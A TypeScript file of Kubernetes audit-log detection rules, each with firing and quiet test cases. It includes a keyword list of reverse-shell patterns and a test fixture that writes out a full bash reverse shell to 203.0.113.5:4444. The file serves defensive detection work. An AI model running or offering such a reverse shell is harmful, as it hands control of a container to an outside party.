import type { Condition, Rule } from "../../rule.ts";
import { kubernetes } from "../examples/records.ts";
import { plainRule } from "../plain-rule.ts";
import { POD_SPECS, RUNS_ANOTHER } from "./pod-specs.ts";

const sources = ["kubernetes-audit"];

/** What a shell is told to hand itself to somebody outside, or to run what it fetches. */
const SHELL_HANDED_OUT = [
  "/dev/tcp/",
  "nc -e",
  "ncat -e",
  "bash -i >&",
  "socat exec",
  "| sh",
  "|sh",
  "| bash",
  "|bash",
];

const WORDS: readonly Condition[] = POD_SPECS.flatMap((spec) =>
  ["containers", "initContainers"].flatMap((list) =>
    ["command", "args"].flatMap((words) =>
      SHELL_HANDED_OUT.map((contains) => ({ field: `${spec}.${list}.*.${words}`, contains })),
    ),
  ),
);
const pod = (container: object) => ({
  requestObject: { spec: { containers: [{ name: "c", image: "busybox", ...container }] } },
});
const binding = { resource: "clusterrolebindings", name: "b", apiGroup: "rbac.authorization.k8s.io" };
const bound = (name: string, role: string) => ({
  requestObject: { roleRef: { kind: "ClusterRole", name: role }, subjects: [{ kind: "Group", name }] },
});

/** Kubernetes: shells that are handed out, and rights that turn up beside the roles. */
export const KUBERNETES_TURNS: readonly Rule[] = [
  plainRule({
    id: "kubernetes-shell-handed-out",
    title: "{identity_name} started a pod whose command hands a shell out, or runs what it fetches ({resource})",
    sources,
    actions: RUNS_ANOTHER,
    when: { any: WORDS },
    severity: "medium",
    attempted: "low",
    attack: { tactic: "Execution", technique: "T1610" },
    expected: "images have what they run",
    falsePositives: ["Jobs that install a tool at their start: by the same identity, from the same address."],
    fires: [
      "handed out",
      kubernetes(
        "create",
        { resource: "pods", namespace: "shop", name: "p" },
        pod({ command: ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"] }),
      ),
    ],
    quiet: [
      "a program",
      kubernetes(
        "create",
        { resource: "pods", namespace: "shop", name: "p" },
        pod({ command: ["/bin/app"], args: ["--port", "80"] }),
      ),
    ],
  }),
  plainRule({
    id: "kubernetes-pod-sees-kernel-files",
    title: "{identity_name} started a pod that sees the kernel's files unmasked ({resource})",
    sources,
    actions: RUNS_ANOTHER,
    when: {
      any: POD_SPECS.map((spec) => ({ field: `${spec}.containers.*.securityContext.procMount`, equals: "Unmasked" })),
    },
    severity: "medium",
    attempted: "low",
    attack: { tactic: "Privilege Escalation", technique: "T1611" },
    expected: "pods that build images in pods, and no other",
    fires: [
      "unmasked",
      kubernetes(
        "create",
        { resource: "pods", namespace: "shop", name: "p" },
        pod({ securityContext: { procMount: "Unmasked" } }),
      ),
    ],
    quiet: [
      "masked",
      kubernetes(
        "create",
        { resource: "pods", namespace: "shop", name: "p" },
        pod({ securityContext: { procMount: "Default" } }),
      ),
    ],
  }),
  plainRule({
    id: "kubernetes-everybody-bound",
    title:
      "{identity_name} gave everybody who signs in the role {raw.requestObject.roleRef.name|that the log does not name}",
    sources,
    actions: ["clusterrolebindings", "rolebindings"].flatMap((what) =>
      ["create", "update", "patch"].map((verb) => `${verb} ${what}`),
    ),
    when: {
      all: [
        { field: "raw.requestObject.subjects.*.name", in: ["system:authenticated", "system:serviceaccounts"] },
        {
          not: {
            field: "raw.requestObject.roleRef.name",
            in: ["system:basic-user", "system:discovery", "system:public-info-viewer"],
          },
        },
      ],
    },
    severity: "medium",
    attempted: "low",
    owasp: ["NHI5", "NHI6"],
    attack: { tactic: "Privilege Escalation", technique: "T1098.006" },
    expected: "roles are given to whom they are for",
    fires: ["may write", kubernetes("create", binding, bound("system:authenticated", "edit"))],
    quiet: ["may look at itself", kubernetes("create", binding, bound("system:authenticated", "system:basic-user"))],
  }),
  plainRule({
    id: "kubernetes-group-bound",
    title:
      "{identity_name} gave the role {raw.requestObject.roleRef.name|that the log does not name} to all of {raw.requestObject.subjects.*.name|a group}",
    sources,
    actions: ["clusterrolebindings", "rolebindings"].flatMap((what) =>
      ["create", "update", "patch"].map((verb) => `${verb} ${what}`),
    ),
    when: {
      all: [
        {
          any: [
            { field: "raw.requestObject.subjects.*.name", prefix: "system:serviceaccounts:" },
            { field: "raw.requestObject.subjects.*.name", in: ["system:nodes", "system:bootstrappers"] },
          ],
        },
        { field: "raw.requestObject.roleRef.name", in: ["cluster-admin", "admin", "edit"] },
      ],
    },
    severity: "medium",
    attempted: "low",
    owasp: ["NHI5", "NHI6"],
    attack: { tactic: "Privilege Escalation", technique: "T1098.006" },
    expected: "each workload has the rights that it needs, by its own account",
    shows: ["raw.requestObject.roleRef.name", "raw.requestObject.subjects.*.name"],
    key: "raw.objectRef.name",
    response: ["Bind the accounts that need it; every pod of the group has these rights."],
    fires: ["all pods of a namespace", kubernetes("create", binding, bound("system:serviceaccounts:shop", "edit"))],
    quiet: [
      "may pull images",
      kubernetes("create", binding, bound("system:serviceaccounts:shop", "system:image-puller")),
    ],
  }),
  plainRule({
    id: "kubernetes-binding-joined",
    title: "{identity_name} changed who has the rights of the cluster that {resource|a binding} gives",
    sources,
    kinds: ["service-account", "human"],
    actions: ["patch clusterrolebindings"],
    when: {
      all: [
        { field: "raw.requestObject.subjects.*.name", exists: true },
        { not: { field: "raw.requestObject.roleRef.name", exists: true } },
      ],
    },
    severity: "low",
    attempted: "low",
    owasp: ["NHI5"],
    attack: { tactic: "Privilege Escalation", technique: "T1098.006" },
    expected: "bindings are written whole, from code",
    fires: ["joined", kubernetes("patch", binding, { requestObject: { subjects: [{ kind: "User", name: "eve" }] } })],
    quiet: ["labelled", kubernetes("patch", binding, { requestObject: { metadata: { labels: { team: "a" } } } })],
  }),
  plainRule({
    id: "kubernetes-node-removed",
    title: "{identity_name} took the node {resource|that the log does not name} out of the cluster",
    sources,
    kinds: ["service-account"],
    actions: ["delete nodes", "deletecollection nodes"],
    severity: "low",
    attempted: "low",
    attack: { tactic: "Impact", technique: "T1489" },
    expected: "what scales the cluster, every day",
    fires: ["taken out", kubernetes("delete", { resource: "nodes", name: "n1" })],
    quiet: ["looked at", kubernetes("get", { resource: "nodes", name: "n1" })],
  }),
  plainRule({
    id: "kubernetes-rights-written-by-machine",
    title: "{identity_name} writes who may do what in the cluster ({action} {resource|not named in the log})",
    sources,
    kinds: ["service-account"],
    actions: ["clusterroles", "clusterrolebindings", "roles", "rolebindings"].flatMap((what) =>
      ["create", "update", "patch"].map((verb) => `${verb} ${what}`),
    ),
    severity: "info",
    attempted: "low",
    owasp: ["NHI5"],
    attack: { tactic: "Privilege Escalation", technique: "T1098.006" },
    expected: "operators and pipelines that do so every day",
    fires: ["a binding", kubernetes("create", { ...binding, resource: "rolebindings", namespace: "shop" })],
    quiet: ["read", kubernetes("get", { ...binding, resource: "rolebindings", namespace: "shop" })],
  }),
  plainRule({
    id: "kubernetes-admission-rewritten",
    title: "{identity_name} changed what is asked before objects are stored ({action} {resource|not named in the log})",
    sources,
    actions: ["mutatingwebhookconfigurations", "validatingwebhookconfigurations"].flatMap((what) => [
      `update ${what}`,
      `patch ${what}`,
    ]),
    when: {
      any: [
        { field: "identity_kind", equals: "human" },
        ...["kubectl", "curl/", "python"].map((prefix) => ({ field: "user_agent", prefix })),
      ],
    },
    severity: "info",
    attempted: "low",
    attack: { tactic: "Persistence", technique: "T1546" },
    expected: "what renews the certificates of webhooks does so itself, and is no shell",
    fires: ["changed", kubernetes("patch", { resource: "mutatingwebhookconfigurations", name: "inject" })],
    quiet: [
      "by what renews their certificates",
      kubernetes(
        "update",
        { resource: "mutatingwebhookconfigurations", name: "inject" },
        { userAgent: "cainjector/v1.15" },
      ),
    ],
  }),
  plainRule({
    id: "kubernetes-delivery-changed-by-hand",
    title:
      "{identity_name} changed by hand what the delivery keeps in place ({action} {resource|not named in the log})",
    sources,
    actions: [
      "applications",
      "applicationsets",
      "appprojects",
      "kustomizations",
      "helmreleases",
      "gitrepositories",
    ].flatMap((what) => ["update", "patch", "delete"].map((verb) => `${verb} ${what}`)),
    when: { field: "user_agent", prefix: "kubectl" },
    severity: "low",
    attempted: "low",
    attack: { tactic: "Persistence", technique: "T1546" },
    expected: "what is delivered is changed where it comes from",
    fires: ["changed", kubernetes("patch", { resource: "applications", namespace: "argocd", name: "shop" })],
    quiet: [
      "by the delivery",
      kubernetes(
        "patch",
        { resource: "applications", namespace: "argocd", name: "shop" },
        { userAgent: "argocd-application-controller/v2" },
      ),
    ],
  }),
  plainRule({
    id: "kubernetes-cloud-proxy-secret-read",
    title: "{identity_name} read what lets {resource|somebody} come in through the cloud's proxy",
    sources,
    actions: ["get secrets", "list secrets", "get configmaps", "list configmaps"],
    when: {
      all: [
        { field: "raw.objectRef.namespace", in: ["azure-arc", "azure-arc-release"] },
        { not: { any: ["azure-arc", "kube-system/"].map((prefix) => ({ field: "identity_name", prefix })) } },
      ],
    },
    severity: "low",
    attempted: "low",
    owasp: ["NHI2"],
    attack: { tactic: "Credential Access", technique: "T1552.007" },
    expected: "the agents of the proxy, in its own namespace",
    fires: ["a certificate", kubernetes("get", { resource: "secrets", namespace: "azure-arc", name: "proxy" })],
    quiet: ["of a shop", kubernetes("get", { resource: "configmaps", namespace: "shop", name: "settings" })],
  }),
];
